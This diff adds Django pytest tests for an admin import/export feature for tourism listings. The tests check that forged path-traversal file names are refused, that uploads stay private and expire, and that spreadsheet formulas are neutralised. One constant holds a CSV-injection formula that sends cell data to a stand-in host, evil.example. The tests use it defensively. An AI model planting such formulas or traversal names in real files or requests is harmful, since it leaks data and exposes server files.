@@ -2,10 +2,15 @@
 
 import csv
 import io
+import os
+import tempfile
+import time
 
 import pytest
+from django.core.cache import cache
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
+from django.utils.translation import gettext
 from openpyxl import Workbook, load_workbook
 
 from attractions.models import Attraction
@@ -13,9 +18,10 @@ from attractions.resources import AttractionResource
 from attractions.tests.factories import make_attraction
 from corridor_portal.models import Status
 from corridor_portal.tests.factories import make_region
+from staff.imports import UserImportStorage
 from villages.models import Village
 
-from .factories import make_county_editor, make_province_editor
+from .factories import make_county_editor, make_province_editor, make_publisher
 
 pytestmark = pytest.mark.django_db
 
@@ -181,3 +187,123 @@ def test_an_exported_xlsx_reads_back(editor, hunchun):
     dataset = AttractionResource().export()
     book = load_workbook(io.BytesIO(dataset.export("xlsx")))
     assert book.active["A2"].value == "roundtrip"
+
+
+# Files waiting between preview and confirmation --------------------------------------------------------
+
+
+def confirm_data(preview):
+    form = preview.context["confirm_form"]
+    return {name: form.initial.get(name, "") for name in form.fields}
+
+
+def process_import(client, data):
+    return client.post(reverse("admin:attractions_attraction_process_import"), data)
+
+
+@pytest.mark.parametrize("forged_name", ["../../tmp/{name}", "{name}", "/tmp/{name}"])  # noqa: S108 - the attack
+def test_a_forged_file_name_neither_reads_nor_deletes_a_file_of_the_server(editor, forged_name):
+    """The confirmation names a file; a name that is not a waiting upload of this user is refused."""
+    with tempfile.NamedTemporaryFile("w", suffix=".csv", dir=tempfile.gettempdir(), delete=False) as other:
+        csv.writer(other).writerows([HEADER, *GOOD_ROWS])
+    try:
+        name = forged_name.format(name=os.path.basename(other.name))
+        data = {"import_file_name": name, "original_file_name": "x.csv", "format": CSV_FORMAT, "resource": ""}
+        response = process_import(editor, data)
+        assert response.status_code == 200
+        assert "import_file_name" in response.context["confirm_form"].errors
+        assert os.path.exists(other.name)
+        assert not Attraction.objects.exists()
+    finally:
+        os.remove(other.name)
+
+
+def test_a_waiting_file_is_confirmed_only_by_who_uploaded_it(client, hunchun):
+    uploader, other = make_province_editor(), make_province_editor()
+    client.force_login(uploader)
+    data = confirm_data(upload(client, csv_file(GOOD_ROWS)))
+    assert not os.path.exists(os.path.join(tempfile.gettempdir(), data["import_file_name"]))  # not on disk
+
+    client.force_login(other)
+    refused = process_import(client, data)
+    assert refused.status_code == 200
+    assert "import_file_name" in refused.context["confirm_form"].errors
+    expired = "This file is no longer waiting to be imported (it was imported, or it expired). Upload it again."
+    assert gettext(expired) in refused.content.decode()
+    assert not Attraction.objects.exists()
+
+    client.force_login(uploader)
+    assert process_import(client, data).status_code == 302
+    assert Attraction.objects.count() == 2
+    again = process_import(client, data)  # imported: the file is gone
+    assert "import_file_name" in again.context["confirm_form"].errors
+
+
+def test_a_refused_preview_keeps_no_file(editor):
+    """Nothing waits for a confirmation that cannot come."""
+    bad_row = ["negative", "负价", "Negative", "hunchun", "natural", "0", "42.5", "130.5", "-5"]
+    preview = upload(editor, csv_file([*GOOD_ROWS, bad_row]))
+    name = preview.context["form"].cleaned_data["import_file"].tmp_storage_name
+    assert not os.path.exists(os.path.join(tempfile.gettempdir(), name))
+    assert cache.get(UserImportStorage.CACHE_PREFIX + name) is None
+
+
+def test_an_abandoned_file_expires(editor, settings):
+    settings.IMPORT_FILE_LIFETIME = 1  # seconds; the cache (Redis in tests too) keeps its own clock
+    data = confirm_data(upload(editor, csv_file(GOOD_ROWS)))
+    time.sleep(1.5)
+    response = process_import(editor, data)
+    assert "import_file_name" in response.context["confirm_form"].errors
+    assert not Attraction.objects.exists()
+
+
+# Formulas ------------------------------------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def export(client, file_format):
+    url = reverse("admin:attractions_attraction_export")
+    fields = {f"attractionresource_{name}": "on" for name in AttractionResource().get_export_order()}
+    return client.post(url, {"format": file_format, "resource": "0", **fields})
+
+
+@pytest.fixture
+def formula_listing(client, hunchun):
+    """A listing whose English name an editor imported as a formula."""
+    client.force_login(make_province_editor())
+    row = ["formula", "公式", FORMULA, "hunchun", "natural", "0", "42.55", "130.62", ""]
+    process_import(client, confirm_data(upload(client, csv_file([row]))))
+    return Attraction.objects.get(slug="formula")
+
+
+def test_an_imported_formula_is_stored_as_the_text_it_is(formula_listing):
+    assert formula_listing.name_en == FORMULA
+
+
+def test_an_imported_xlsx_formula_cell_is_stored_as_its_text_not_its_value(editor):
+    row = ["formula", "公式", "=1+1", "hunchun", "natural", "0", "42.55", "130.62", ""]
+    process_import(editor, confirm_data(upload(editor, xlsx_file([row]), XLSX_FORMAT)))
+    assert Attraction.objects.get(slug="formula").name_en == "=1+1"
+
+
+def test_the_csv_export_escapes_formulas(formula_listing, client):
+    client.force_login(make_publisher())  # another user
+    rows = list(csv.DictReader(io.StringIO(export(client, CSV_FORMAT).content.decode("utf-8-sig"))))
+    assert rows[0]["name_en"] == f"'{FORMULA}"
+    assert rows[0]["latitude"] == "42.55"  # numbers stay numbers
+
+
+def test_the_xlsx_export_holds_formulas_as_text(formula_listing, client):
+    client.force_login(make_publisher())
+    sheet = load_workbook(io.BytesIO(export(client, XLSX_FORMAT).content)).active
+    header = [cell.value for cell in sheet[1]]
+    cell = sheet.cell(row=2, column=header.index("name_en") + 1)
+    assert (cell.value, cell.data_type) == (f"'{FORMULA}", "s")
+
+
+def test_an_exported_formula_imported_again_is_the_same_text(formula_listing, client):
+    exported = export(client, CSV_FORMAT).content
+    file = SimpleUploadedFile("again.csv", exported, content_type="text/csv")
+    process_import(client, confirm_data(upload(client, file)))
+    assert Attraction.objects.get(slug="formula").name_en == FORMULA
